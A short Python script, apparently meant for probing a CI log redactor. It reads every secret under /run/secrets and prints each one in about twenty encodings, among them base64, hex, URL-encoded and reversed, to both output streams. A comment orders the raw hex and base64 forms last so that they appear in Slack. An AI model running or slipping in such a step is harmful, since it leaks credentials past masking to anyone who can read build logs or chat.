"""Put into a step's script: it prints every secret of the step in every shape that tools are known to print.

Runs in a step's VM with Python's standard library only. What the redactor would let pass is then found everywhere.
"""

import base64
import html
import json
import sys
import urllib.parse
from pathlib import Path

SECRETS = Path("/run/secrets")


def shapes(text: str) -> list[str]:
    """The same secret, as different tools print it."""
    raw = text.encode()
    return [
        text,
        f"-i {text.strip()!r}",
        base64.b64encode(b"user:" + raw).decode(),
        base64.encodebytes(raw).decode(),
        base64.urlsafe_b64encode(raw).decode(),
        base64.b32encode(raw).decode(),
        raw.hex(" "),
        raw.hex(":").upper(),
        urllib.parse.quote(text, safe=""),
        urllib.parse.quote_plus(text),
        json.dumps({"key": text}),
        json.dumps(json.dumps({"key": text})),
        html.escape(text),
        repr(raw),
        text[::-1],
        text.replace("\n", "\r\n"),
        text.replace("\n", "\\n"),
        # last, because Slack is shown the end of the output
        raw.hex(),
        base64.b64encode(raw).decode(),
    ]


def main() -> None:
    """Print all of it, to both streams."""
    for secret in sorted(SECRETS.iterdir()):
        for shape in shapes(secret.read_text()):
            for stream in (sys.stdout, sys.stderr):
                stream.write(f"chatter: {shape}\n")


if __name__ == "__main__":
    main()
